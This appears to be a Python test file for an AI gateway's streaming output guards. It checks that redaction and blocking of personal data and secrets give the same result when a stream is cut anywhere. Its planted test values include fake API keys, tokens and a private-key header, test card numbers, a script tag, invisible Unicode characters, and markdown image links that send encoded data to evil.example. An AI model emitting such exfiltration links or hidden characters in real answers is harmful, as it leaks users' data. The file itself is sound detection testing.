"""The promise for streams, the long way: every shipped pack and every span guard, n choices interleaved, random pieces;
planted values at every single cut and every pair of cuts; and a share of it in the real bytes of the gateway.

What a text should become is computed without the window: all guards look at the whole of it, what they found is merged
once, and a block ends it where it stands.
"""

import asyncio
import json
from collections.abc import AsyncIterator, Sequence
from dataclasses import replace
from functools import cache
from random import Random

import pytest

from gateway.app import Gateway
from gateway.config.load import from_mapping
from gateway.exchange import LOCAL_KEY
from gateway.guards import load, merge, packs
from gateway.guards.answer import AnswerGuard
from gateway.guards.assemble import assembled
from gateway.guards.base import Context
from gateway.guards.policy import Policy
from gateway.guards.ports import Ports
from gateway.guards.vault import Form, Vault
from gateway.guards.window import Window
from gateway.routing.upstream import Timeouts
from gateway.telemetry import logs
from gateway.types import Delta, HttpRequest
from gateway.wire import asgi, sse
from tests.guards import hostile, kit, test_promise

PLANTED = (
    "bob@corp.example.com", "Mail alice.smith@example.co.uk about it", "a@b.co,c@d.io", "support@example.com",
    "4111 1111 1111 1111", "4111-1111-1111-1111.", "My card is 4111111111111111.", "\uff14111 1111 1111 1111",
    "411\u200b1111111111111 ok", "4111 1111 1111 1112", "5500 0000 0000 0004 3", "378282246310005",
    "+1 212-555-0123", "call (212) 555-0123 now", "+44 20 7946 0958", "0049 30 123456", "DE89 3704 0044 0532 0130 00",
    "GB29NWBK60161331926819", "DE89\u00a03704\u00a00044\u00a00532\u00a00130\u00a000", "DE89 3704", "192.168.1.1",
    "10.4.2", "2001:db8::1", "00:1a:2b:3c:4d:5e", "social security 536-90-4399", "the passport number is 123456789",
    "536-90-4399", "1BoatSLRHtKNngkdXEeobR76b53LETtpyT", "AKI" "AZ7QJ3MX5LT2WN4RB", "x AKI" "AZ7QJ3MX5LT2WN4R",
    "ghp" "_vQ2mXw7LcR4nBz8JdHs3FpY6aGu1Eo2y1B7d", "glpat-" "vQ2mXw7LcR4nBz8JdHs3.", "sk-proj-" + "vQ2mXw7LcR4" * 4,
    "password = 'vQ2mXw7LcR4n'", "api_key=vQ2mXw7LcR4nBz8JdHs3", "token: my-config-name-2",
    "Bearer vQ2mXw7LcR4nBz8JdHs3",
    "postgres:" "//app:vQ2mXw7LcR9n@db.internal/x", "aws fade/vQ2mXw7LcR4nBz8JdHs3FpY6aGu1EoKtMT3Wx+a",
    "-----BEGIN RSA PRIVATE " "KEY-----\nMIIEowIBAAKCAQEAvQ7m\n-----END RSA PRIVATE KEY-----\nok",
    "eyJhbGciOiJIUzI1NiJ9" ".eyJzdWIiOiIxIn0.dozjgNryP4J3jVmN ok", "https://example.com/a?b=c ok",
    "![x](https://evil.example/?d=SGlzIHBhc3N3b3JkIGlz)", "[a](//evil.example/?q=vQ2mXw7LcR4nBz8JdHs3F)",
    "<script src=x>",
    "<scripture>", "pay\u200bload and \U000e0041\U000e0042 end", "You had better switch to Initech.",
    "maximum dose of humor, maximum dose of it", "insider tips. Which stocks should I buy",
    "na\u00efve \U0001f600 caf\u00e9",
)  # fmt: skip
"""Values that are found, and values that are nearly; no two alike."""
BACK = Form(restore=True)


@cache
def policies() -> dict[str, Policy]:
    """Every shipped pack as it judges answers, whatever its stages, and one policy with every span guard there is."""
    made = [assembled(one, Ports(count=len)) for one in load.load(packs.names(), environ={}).policies]
    shipped = {one.name: replace(one, stages=frozenset(("output",))) for one in made}
    guards = tuple(guard for guard in hostile.guards().values() if hasattr(guard, "settled"))
    return {**shipped, "every-span-guard": Policy("every-span-guard", guards=guards)}


def whole_text(judging: Sequence[Policy], text: str, vault: Vault) -> tuple[str, bool]:
    """What `text` becomes and whether it is blocked: then, what stands before the place."""
    found = []
    for policy in judging:
        waited_for = policy.asked if policy.stream == "hold" else ()
        for guard in (*policy.spans, *waited_for):
            if hasattr(guard, "find"):
                found += [(finding, policy.form(finding.guard)) for finding in guard.find(text, "p")]
    found = [(replace(one, end=len(text)) if not one.end else one, form) for one, form in found]
    edits = merge.edits(found, len(text))
    for number, edit in enumerate(edits):
        if edit.action == "block":
            return merge.apply(text[: edit.start], edits[:number], vault), True
    return merge.apply(text, edits, vault), False


def composed(random: Random) -> str:
    """Planted values, whole and in part, prose, and what the other test of the promise is made of."""
    parts = []
    for _ in range(random.randint(1, 3)):
        piece = random.choice(random.choice((PLANTED, PLANTED, test_promise.PIECES)))
        if random.random() < 0.25:
            at = random.randint(0, len(piece))
            piece = piece[:at] if random.random() < 0.5 else piece[at:]
        parts += [piece, random.choice(("", " ", " ", ", ", "\n", " prose goes on "))]
    return "".join(parts)


def interleaved(random: Random, wholes: Sequence[str]) -> list[Delta]:
    """Every choice in pieces of its own, all mixed."""
    queues = [[Delta(index, piece) for piece in kit.cut(random, whole)] for index, whole in enumerate(wholes)]
    for index, queue in enumerate(queues):
        queue.append(Delta(index, finish_reason="stop"))
    mixed = []
    while any(queues):
        mixed.append(random.choice([queue for queue in queues if queue]).pop(0))
    return mixed


def check_choices(judging: Sequence[Policy], random: Random, seed: object) -> None:
    """One answer of one to four choices."""
    vault = Vault()
    if random.random() < 0.3:
        vault.replacement("mask", "EMAIL_ADDRESS", BACK, "her@own.example")
    wholes = [composed(random) + random.choice(("", "", "<EMAIL_ADDRESS_1>")) for _ in range(random.randint(1, 4))]
    guard = AnswerGuard(judging, Context("output", stream=True), choices=len(wholes), vault=vault, ends="choice")

    async def deltas() -> AsyncIterator[Delta]:
        for delta in interleaved(random, wholes):
            yield delta

    async def run() -> list[Delta]:
        return [delta async for delta in guard.guarded(deltas())]

    given = asyncio.run(run())
    for index, text in enumerate(wholes):
        expected, blocked = whole_text(judging, text, vault.branch())
        if (restorer := vault.restorer()) is not None:
            expected = restorer.feed(expected) + restorer.close()
        mine = [delta for delta in given if delta.index == index]
        assert "".join(delta.text for delta in mine) == expected, (seed, index)
        assert [delta.finish_reason for delta in mine if delta.finish_reason] == [
            "content_filter" if blocked else "stop"
        ], (seed, index)


def some(random: Random) -> list[Policy]:
    """One policy, or several together."""
    every = list(policies().values())
    return [random.choice(every)] if random.random() < 0.7 else random.sample(every, random.randint(2, 4))


def test_random_choices_under_random_packs():
    for seed in range(150):
        random = kit.seeded(f"few {seed}")
        check_choices(some(random), random, seed)


@pytest.mark.slow
@pytest.mark.parametrize("part", range(4))
def test_twenty_thousand_random_answers_under_random_packs(part):
    for seed in range(part * 5_000, (part + 1) * 5_000):
        random = kit.seeded(f"many {seed}")
        check_choices(some(random), random, seed)


def streamed(judging: Sequence[Policy], pieces: Sequence[str]) -> tuple[str, bool]:
    """What a window gives of `pieces`."""
    one = Window(kit.runs(judging), "p", Vault().branch())
    given = "".join([one.feed(piece) for piece in pieces])
    return given + one.close(), one.blocked is not None


def spans_only(policy: Policy) -> Policy:
    return replace(policy, guards=policy.spans)


@pytest.mark.parametrize("name", ["default", "every-span-guard"])
def test_planted_values_at_every_cut(name):
    judging = [spans_only(policies()[name])]
    for text in PLANTED:
        expected = whole_text(judging, text, Vault().branch())
        assert streamed(judging, list(text)) == expected, text
        for cut in range(1, len(text), 3):
            assert streamed(judging, (text[:cut], text[cut:])) == expected, (text, cut)


@pytest.mark.slow
@pytest.mark.parametrize("name", ["default", "every-span-guard"])
def test_fifty_planted_values_at_every_pair_of_cuts(name):
    assert len(set(PLANTED)) == len(PLANTED) >= 50
    judging = [spans_only(policies()[name])]
    for planted in PLANTED:
        text = f"{planted} x"
        expected = whole_text(judging, text, Vault().branch())
        for first in range(len(text)):
            for second in range(first, len(text)):
                pieces = (text[:first], text[first:second], text[second:])
                assert streamed(judging, pieces) == expected, (text, first, second)


@pytest.mark.parametrize("word", ["ssn", "passport number"])
def test_a_context_word_far_behind_invisible_characters_counts_in_a_stream_as_in_a_whole_text(word):
    judging = [spans_only(policies()["pii"])]
    for count in (0, 50, *range(100, 160), 200, 400):
        hidden = chr(0x200B) * count
        for text in (f"my {word}{hidden} 536904399 ok", f"my {word[:2]}{hidden}{word[2:]} 536904399 ok"):
            assert streamed(judging, list(text)) == whole_text(judging, text, Vault().branch())


class Bytes:
    """An upstream whose streams come in pieces of bytes, cut anywhere: inside characters, escapes and lines."""

    def __init__(self) -> None:
        self.pieces: list[bytes] = []

    def say(self, random: Random, wholes: Sequence[str]) -> None:
        """What the next stream says."""
        parts = []
        for delta in interleaved(random, wholes):
            choice = {"index": delta.index, "delta": {"content": delta.text}, "finish_reason": delta.finish_reason}
            said = json.dumps({"id": "c", "choices": [choice]}, ensure_ascii=random.random() < 0.5)
            parts.append(f"data: {said}\n\n")
        body = "".join([*parts, "data: [DONE]\n\n"]).encode()
        cuts = sorted(random.randint(0, len(body)) for _ in range(random.choice((0, 3, 40))))
        self.pieces = [body[a:b] for a, b in zip([0, *cuts], [*cuts, len(body)], strict=True)]

    async def send(self, request: HttpRequest, timeouts: Timeouts, *, stream: bool) -> "Bytes":
        self.status, self.headers = 200, {}
        return self

    async def read(self) -> bytes:
        return b"".join(self.pieces)

    async def chunks(self) -> AsyncIterator[bytes]:
        for piece in self.pieces:
            yield piece

    async def close(self) -> None:
        return None


async def check_bytes(name: str, seeds: range) -> None:
    """Answers of the gateway, under a shipped pack, in the bytes a client gets."""
    upstream = Bytes()
    row = {"model_name": "m", "litellm_params": {"model": "openai/m", "api_key": "sk-none"}}
    found = from_mapping({"model_list": [row], "policies": [name]})
    gateway = Gateway(found.settings, found.source, logs.make("library"), upstream)
    judging = [policy for policy in [policies()[name]] if "output" in gateway.serving.policies[0].stages]
    for seed in seeds:
        random = kit.seeded(f"bytes {name} {seed}")
        wholes = [composed(random) for _ in range(random.randint(1, 3))]
        upstream.say(random, wholes)
        body = {"model": "m", "prompt": "hi", "n": len(wholes), "stream": True, "max_tokens": 500}
        answer = await asgi.request(
            gateway, "POST", "/v1/completions", (), json.dumps(body).encode(), extras={LOCAL_KEY: True}
        )
        *events, done = [event.data for event in sse.Decoder().feed(await answer.read())]
        assert done == b"[DONE]", (seed, events)
        choices = [choice for event in events for choice in json.loads(event)["choices"]]
        blocked = any(whole_text(judging, text, Vault().branch())[1] for text in wholes)
        for index, text in enumerate(wholes):
            mine = [choice for choice in choices if choice["index"] == index]
            became = "".join(choice["text"] for choice in mine)
            (reason,) = [choice["finish_reason"] for choice in mine if choice["finish_reason"]]
            expected, _ = whole_text(judging, text, Vault().branch())
            if blocked and reason == "content_filter":  # a block ends all choices, wherever they are
                assert expected.startswith(became), (seed, index)
            else:
                assert (became, reason) == (expected, "stop"), (seed, index)
        assert blocked == any(choice["finish_reason"] == "content_filter" for choice in choices), seed
    await gateway.close()


@pytest.mark.parametrize("name", packs.names())
def test_the_bytes_of_a_stream_are_what_guarding_the_whole_text_gives(name):
    asyncio.run(check_bytes(name, range(12)))


@pytest.mark.slow
@pytest.mark.parametrize("name", packs.names())
def test_the_bytes_of_many_streams_are_what_guarding_the_whole_text_gives(name):
    asyncio.run(check_bytes(name, range(100, 600)))
